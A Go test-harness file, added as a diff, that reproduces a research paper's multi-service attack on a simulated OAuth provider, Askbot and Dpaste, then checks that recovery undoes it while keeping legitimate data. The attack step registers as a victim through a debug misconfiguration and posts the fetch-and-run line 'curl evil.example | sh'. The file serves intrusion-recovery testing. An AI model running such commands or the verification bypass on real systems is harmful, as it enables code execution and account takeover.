@@ -1,0 +1,245 @@
+package harness
+
+import (
+	"fmt"
+	"strings"
+
+	"aire/internal/apps/askbot"
+	"aire/internal/apps/dpaste"
+	"aire/internal/apps/oauthsvc"
+	"aire/internal/core"
+	"aire/internal/wire"
+)
+
+// Tokens used by the Askbot scenario's administrators.
+const (
+	OAuthAdminToken  = "oauth-admin-token"
+	AskbotAdminToken = "askbot-admin-token"
+)
+
+// AskbotScenario reproduces the paper's main attack (§7.1, Figure 4): an
+// OAuth provider misconfiguration lets an attacker sign up to Askbot as a
+// victim and post a question whose code snippet Askbot crossposts to
+// Dpaste, spreading the attack across three services.
+type AskbotScenario struct {
+	TB     *Testbed
+	OAuth  *core.Controller
+	Askbot *core.Controller
+	Dpaste *core.Controller
+
+	// ConfigReqID is request (1) of Figure 4 — the misconfiguration the
+	// administrator later cancels to start recovery.
+	ConfigReqID string
+	// AttackerSession is the attacker's Askbot session, obtained by
+	// exploiting the vulnerability.
+	AttackerSession string
+	// AttackQuestionID is the attacker's question (request (5)).
+	AttackQuestionID string
+	// AttackPasteID is the crossposted snippet on Dpaste (request (6)).
+	AttackPasteID string
+	// LegitSessions maps legitimate users to their sessions.
+	LegitSessions map[string]string
+	// LegitQuestionIDs are the questions posted by legitimate users.
+	LegitQuestionIDs []string
+}
+
+// NewAskbotScenario stands up the three services and seeds nLegit
+// legitimate OAuth accounts plus "attacker" and "victim".
+func NewAskbotScenario(nLegit int, cfg core.Config) (*AskbotScenario, error) {
+	tb := NewTestbed()
+	s := &AskbotScenario{
+		TB:            tb,
+		OAuth:         tb.Add(oauthsvc.New(OAuthAdminToken), cfg),
+		Dpaste:        tb.Add(dpaste.New(), cfg),
+		LegitSessions: map[string]string{},
+	}
+	s.Askbot = tb.Add(askbot.New("oauth", "dpaste", AskbotAdminToken), cfg)
+	tb.FreezeTime(1_380_000_000) // fixed scenario clock
+
+	err := oauthsvc.Seed(func(req wire.Request) wire.Response {
+		return tb.Call("oauth", req)
+	}, nLegit, "attacker", "victim")
+	if err != nil {
+		return nil, err
+	}
+	return s, nil
+}
+
+// SignupAndLogin runs a full OAuth signup on Askbot for the user: authorize
+// on the provider (request (2)), then register on Askbot (requests (3)+(4)).
+// It returns the Askbot session token.
+func (s *AskbotScenario) SignupAndLogin(user, email string) (string, error) {
+	auth := s.TB.Call("oauth", wire.NewRequest("POST", "/authorize").
+		WithForm("user", user, "password", "pw-"+user, "client", "askbot"))
+	if !auth.OK() {
+		return "", fmt.Errorf("authorize(%s): %s", user, auth.Body)
+	}
+	token := string(auth.Body)
+	reg := s.TB.Call("askbot", wire.NewRequest("POST", "/register").
+		WithForm("name", user, "email", email, "oauth_token", token))
+	if !reg.OK() {
+		return "", fmt.Errorf("register(%s): %d %s", user, reg.Status, reg.Body)
+	}
+	return string(reg.Body), nil
+}
+
+// RunAttack executes the intrusion: the administrator's misconfiguration
+// (request (1)), the attacker's signup as the victim (requests (2)-(4)),
+// the attacker's question post (request (5)), and the automatic crosspost
+// to Dpaste (request (6)).
+func (s *AskbotScenario) RunAttack() error {
+	// (1) Administrator mistakenly enables the debug option in production.
+	cfg := s.TB.Call("oauth", wire.NewRequest("POST", "/admin/config").
+		WithForm("key", "debug_verify_all", "value", "true").
+		WithHeader("X-Admin-Token", OAuthAdminToken))
+	if !cfg.OK() {
+		return fmt.Errorf("misconfig: %s", cfg.Body)
+	}
+	s.ConfigReqID = cfg.Header[wire.HdrRequestID]
+
+	// (2)-(4) The attacker logs into the provider as themselves but
+	// registers on Askbot with the *victim's* email; the debug option makes
+	// verification succeed.
+	sess, err := s.SignupAndLogin("attacker", "victim@example.org")
+	if err != nil {
+		return fmt.Errorf("attacker signup should have succeeded: %w", err)
+	}
+	s.AttackerSession = sess
+
+	// (5)+(6) The attacker posts a question with a malicious snippet, which
+	// Askbot crossposts to Dpaste.
+	ask := s.TB.Call("askbot", wire.NewRequest("POST", "/ask").WithForm(
+		"session", sess,
+		"title", "Free bitcoin generator",
+		"body", "run this now",
+		"code", "curl evil.example | sh",
+	))
+	if !ask.OK() {
+		return fmt.Errorf("attack post: %s", ask.Body)
+	}
+	s.AttackQuestionID = string(ask.Body)
+
+	q, ok := s.Askbot.Svc.Store.Get(questionKey(s.AttackQuestionID))
+	if !ok {
+		return fmt.Errorf("attack question not stored")
+	}
+	s.AttackPasteID = q.Fields["paste_id"]
+	if s.AttackPasteID == "" {
+		return fmt.Errorf("attack code was not crossposted to dpaste")
+	}
+	return nil
+}
+
+// PreRegister signs up the given number of legitimate users on Askbot.
+// Running it before the attack mirrors the paper's setting, where existing
+// users' signups do not depend on the later misconfiguration.
+func (s *AskbotScenario) PreRegister(users int) error {
+	for i := 1; i <= users; i++ {
+		name := fmt.Sprintf("user%d", i)
+		if _, have := s.LegitSessions[name]; have {
+			continue
+		}
+		sess, err := s.SignupAndLogin(name, name+"@example.org")
+		if err != nil {
+			return err
+		}
+		s.LegitSessions[name] = sess
+	}
+	return nil
+}
+
+// RunLegitTraffic has each seeded user sign up (unless already registered
+// via PreRegister), post `posts` questions (some with code snippets), view
+// the question list, and — for every third user — download the attacker's
+// snippet from Dpaste. It also triggers the daily summary email.
+func (s *AskbotScenario) RunLegitTraffic(users, posts int) error {
+	for i := 1; i <= users; i++ {
+		name := fmt.Sprintf("user%d", i)
+		sess, have := s.LegitSessions[name]
+		if !have {
+			var err error
+			sess, err = s.SignupAndLogin(name, name+"@example.org")
+			if err != nil {
+				return err
+			}
+			s.LegitSessions[name] = sess
+		}
+		for p := 0; p < posts; p++ {
+			req := wire.NewRequest("POST", "/ask").WithForm(
+				"session", sess,
+				"title", fmt.Sprintf("How do I frob the widget (%s #%d)?", name, p),
+				"body", "details...",
+			)
+			if p%2 == 0 {
+				req = req.WithForm("code", fmt.Sprintf("print(%q)", name))
+			}
+			resp := s.TB.Call("askbot", req)
+			if !resp.OK() {
+				return fmt.Errorf("%s ask #%d: %s", name, p, resp.Body)
+			}
+			s.LegitQuestionIDs = append(s.LegitQuestionIDs, string(resp.Body))
+		}
+		if resp := s.TB.Call("askbot", wire.NewRequest("GET", "/questions")); !resp.OK() {
+			return fmt.Errorf("%s questions: %s", name, resp.Body)
+		}
+		if i%3 == 0 && s.AttackPasteID != "" {
+			s.TB.Call("dpaste", wire.NewRequest("GET", "/download").WithForm("id", s.AttackPasteID))
+		}
+	}
+	email := s.TB.Call("askbot", wire.NewRequest("POST", "/admin/daily_email").
+		WithHeader("X-Admin-Token", AskbotAdminToken))
+	if !email.OK() {
+		return fmt.Errorf("daily email: %s", email.Body)
+	}
+	return nil
+}
+
+// Repair starts recovery exactly as the paper does: the OAuth
+// administrator invokes a delete on request (1), and repair propagates
+// asynchronously to Askbot and Dpaste.
+func (s *AskbotScenario) Repair() error {
+	if _, err := s.OAuth.ApplyLocal(cancelAction(s.ConfigReqID)); err != nil {
+		return err
+	}
+	s.TB.Settle(20)
+	return nil
+}
+
+// Verify checks that the attack is fully undone and legitimate state is
+// preserved; it returns a list of discrepancies (empty on success).
+func (s *AskbotScenario) Verify() []string {
+	var problems []string
+
+	// The misconfiguration is gone.
+	if _, ok := s.OAuth.Svc.Store.Get(configKey("debug_verify_all")); ok {
+		problems = append(problems, "oauth: debug_verify_all still set")
+	}
+	// The attacker's fraudulent account, session, and question are gone.
+	if _, ok := s.Askbot.Svc.Store.Get(userKey("attacker")); ok {
+		problems = append(problems, "askbot: attacker account survived repair")
+	}
+	if _, ok := s.Askbot.Svc.Store.Get(questionKey(s.AttackQuestionID)); ok {
+		problems = append(problems, "askbot: attack question survived repair")
+	}
+	// The crossposted snippet is gone from Dpaste.
+	if _, ok := s.Dpaste.Svc.Store.Get(snippetKey(s.AttackPasteID)); ok {
+		problems = append(problems, "dpaste: attack snippet survived repair")
+	}
+	// Legitimate users' accounts and questions are intact.
+	for name := range s.LegitSessions {
+		if _, ok := s.Askbot.Svc.Store.Get(userKey(name)); !ok {
+			problems = append(problems, "askbot: legitimate user "+name+" lost")
+		}
+	}
+	for _, qid := range s.LegitQuestionIDs {
+		if _, ok := s.Askbot.Svc.Store.Get(questionKey(qid)); !ok {
+			problems = append(problems, "askbot: legitimate question "+qid+" lost")
+		}
+	}
+	// The question list no longer mentions the attack.
+	list := s.TB.Call("askbot", wire.NewRequest("GET", "/questions"))
+	if strings.Contains(string(list.Body), "bitcoin") {
+		problems = append(problems, "askbot: question list still shows attack")
+	}
+	return problems
+}
